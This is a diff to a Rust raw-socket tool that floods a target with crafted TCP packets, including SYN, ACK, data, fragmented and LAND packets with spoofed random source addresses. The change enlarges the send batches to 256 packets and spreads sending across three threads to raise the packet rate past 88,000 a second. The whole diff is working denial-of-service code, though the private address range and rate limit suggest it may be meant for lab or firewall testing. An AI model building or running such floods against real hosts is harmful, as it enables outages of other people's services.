@@ -14,14 +14,18 @@ use std::os::fd::AsRawFd;
 use std::sync::atomic::{AtomicBool, Ordering::SeqCst};
 use std::time::{Duration, Instant};
 
-const BATCH: usize = 64;
+/// Packets for each call of the kernel, and threads that call it: one alone came to 88,000 a second.
+const BATCH: usize = 256;
+const SENDERS: u64 = 3;
 const FIN: u8 = 1;
 const SYN: u8 = 2;
 const RST: u8 = 4;
 const ACK: u8 = 16;
 
+type Kind = (&'static str, u8, usize, u16, bool);
+
 /// What is sent: flags, bytes behind the header, the fragment field of IP, and whether the source is the target.
-const KINDS: [(&str, u8, usize, u16, bool); 7] = [
+const KINDS: [Kind; 7] = [
     ("syn", SYN, 0, 0, false),
     ("ack", ACK, 0, 0, false),
     ("data", ACK, 512, 0, false),
@@ -51,24 +55,32 @@ fn main() {
 
 static OVER: AtomicBool = AtomicBool::new(false);
 
-fn flood(
-    kind: &(&str, u8, usize, u16, bool),
-    target: SocketAddrV4,
-    count: u64,
-    rate: f64,
-) -> (u64, Duration) {
-    let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), SockProtocol::Raw).expect("root");
+/// Each of the senders does its part.
+fn flood(kind: &'static Kind, target: SocketAddrV4, count: u64, rate: f64) -> (u64, Duration) {
     if count == 0 {
         std::thread::spawn(|| {
             let _ = std::io::stdin().read_to_end(&mut Vec::new());
             OVER.store(true, SeqCst);
         });
     }
-    let (mut dice, mut sent, start) = (Dice(u64::from(std::process::id())), 0_u64, Instant::now());
+    let (start, parts) = (Instant::now(), SENDERS as f64);
+    let part = move |number: u64| {
+        std::thread::spawn(move || send(kind, target, number, count.div_ceil(SENDERS), rate / parts))
+    };
+    let senders: Vec<_> = (0..SENDERS).map(part).collect();
+    let sent = senders.into_iter().map(|sender| sender.join().expect("it ends")).sum();
+    (sent, start.elapsed())
+}
+
+fn send(kind: &Kind, target: SocketAddrV4, number: u64, count: u64, rate: f64) -> u64 {
+    let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), SockProtocol::Raw).expect("root");
+    let seed = u64::from(std::process::id()) << 8 | number;
+    let (mut dice, mut sent, start) = (Dice(seed), 0_u64, Instant::now());
     let mut headers = MultiHeaders::<SockaddrIn>::preallocate(BATCH, None);
     let to = [Some(SockaddrIn::from(target)); BATCH];
+    let mut packets: Vec<Vec<u8>> = (0..BATCH).map(|_| packet(kind, target)).collect();
     while (count == 0 || sent < count) && !OVER.load(SeqCst) {
-        let packets: Vec<Vec<u8>> = (0..BATCH).map(|_| packet(kind, target, &mut dice)).collect();
+        packets.iter_mut().for_each(|packet| renew(packet, kind, &mut dice));
         let slices: Vec<[IoSlice<'_>; 1]> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
         let done = sendmmsg(raw.as_raw_fd(), &mut headers, slices.iter(), to, [], MsgFlags::empty());
         sent += done.map_or(0, |results| results.count() as u64);
@@ -77,32 +89,42 @@ fn flood(
             std::thread::sleep(ahead);
         }
     }
-    (sent, start.elapsed())
+    sent
 }
 
-/// An IPv4 packet with a TCP segment in it, from somewhere in 10.128.0.0/9.
-fn packet(kind: &(&str, u8, usize, u16, bool), target: SocketAddrV4, dice: &mut Dice) -> Vec<u8> {
-    let &(_, flags, len, fragment, land) = kind;
-    let (places, numbers) = (dice.roll(), dice.roll());
-    let somewhere = Ipv4Addr::from_bits(10 << 24 | 1 << 23 | (places as u32 & 0x7f_ffff));
-    let source = if land { *target.ip() } else { somewhere };
-    let from = if land { target.port() } else { (places >> 23) as u16 | 1024 };
+/// An IPv4 packet with a TCP segment in it, from where it goes.
+fn packet(kind: &Kind, target: SocketAddrV4) -> Vec<u8> {
+    let &(_, flags, len, fragment, _) = kind;
     let mut packet = vec![0x45, 0];
     packet.extend_from_slice(&(40 + len as u16).to_be_bytes());
-    packet.extend_from_slice(&(numbers as u16).to_be_bytes());
+    packet.extend_from_slice(&[0, 0]);
     packet.extend_from_slice(&fragment.to_be_bytes());
     packet.extend_from_slice(&[64, 6, 0, 0]);
-    packet.extend_from_slice(&source.octets());
     packet.extend_from_slice(&target.ip().octets());
-    packet.extend_from_slice(&from.to_be_bytes());
+    packet.extend_from_slice(&target.ip().octets());
     packet.extend_from_slice(&target.port().to_be_bytes());
-    packet.extend_from_slice(&(numbers as u32).to_be_bytes());
-    packet.extend_from_slice(&((numbers >> 8) as u32).to_be_bytes());
+    packet.extend_from_slice(&target.port().to_be_bytes());
+    packet.extend_from_slice(&[0; 8]);
     packet.extend_from_slice(&[0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
     packet.resize(40 + len, 0x55);
-    let sum = checksum(&packet);
-    packet[36..38].copy_from_slice(&sum.to_be_bytes());
     packet
+}
+
+/// Makes it another packet, from somewhere in 10.128.0.0/9.
+fn renew(packet: &mut [u8], kind: &Kind, dice: &mut Dice) {
+    let (places, numbers) = (dice.roll(), dice.roll());
+    let &(.., land) = kind;
+    if !land {
+        let somewhere = Ipv4Addr::from_bits(10 << 24 | 1 << 23 | (places as u32 & 0x7f_ffff));
+        packet[12..16].copy_from_slice(&somewhere.octets());
+        packet[20..22].copy_from_slice(&((places >> 23) as u16 | 1024).to_be_bytes());
+    }
+    packet[4..6].copy_from_slice(&(numbers as u16).to_be_bytes());
+    packet[24..28].copy_from_slice(&(numbers as u32).to_be_bytes());
+    packet[28..32].copy_from_slice(&((numbers >> 8) as u32).to_be_bytes());
+    packet[36..38].fill(0);
+    let sum = checksum(packet);
+    packet[36..38].copy_from_slice(&sum.to_be_bytes());
 }
 
 /// The checksum of the segment, with the addresses, the protocol and the length before it.
